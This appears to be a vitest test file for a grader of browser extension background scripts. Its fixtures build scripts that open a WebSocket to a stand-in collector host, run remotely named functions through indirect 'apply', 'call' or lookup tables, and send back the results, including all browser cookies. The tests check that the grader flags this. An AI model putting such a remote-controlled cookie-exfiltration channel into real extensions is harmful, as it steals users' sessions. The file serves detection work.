import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Functions that are taken out of something and called by `apply` or `call`: what they give is what that call gives. */

const READS = 'async () => chrome.cookies.getAll({})';
const NONE = 'async () => 1';

it.each([
  [
    "const table = new Map(); table.set('all', { run: FUNCTION }); const answer = (name, list) => table.get(name).run.apply(null, list);",
  ],
  [
    "const table = new Map(); table.set('all', { run: FUNCTION }); const answer = (name, list) => { const one = table.get(name); return one.run.call(null, list); };",
  ],
  ['const table = { all: FUNCTION }; const answer = (name, list) => table[name].apply(null, list);'],
  [
    'class Jobs { all = FUNCTION; } const jobs = new Jobs(); const answer = (name, list) => jobs[name].call(jobs, list);',
  ],
  [
    "const api = { cookies: { all: FUNCTION } }; const answer = (name, list) => { const run = name.split('.').reduce((at, key) => at[key], api); return run(...list); };",
  ],
])('%s', async (answer) => {
  const background = (run: string): string =>
    `${answer.replace('FUNCTION', run)} const ws = new WebSocket('wss://hub.collect.example/'); ws.onmessage = async ({ data }) => { const { name, list } = JSON.parse(data); ws.send(JSON.stringify(await answer(name, list))); };`;
  expect(await graded({ background: background(READS) })).toBe('F');
  expect(await graded({ background: background(NONE) })).toMatch(/^A/);
});
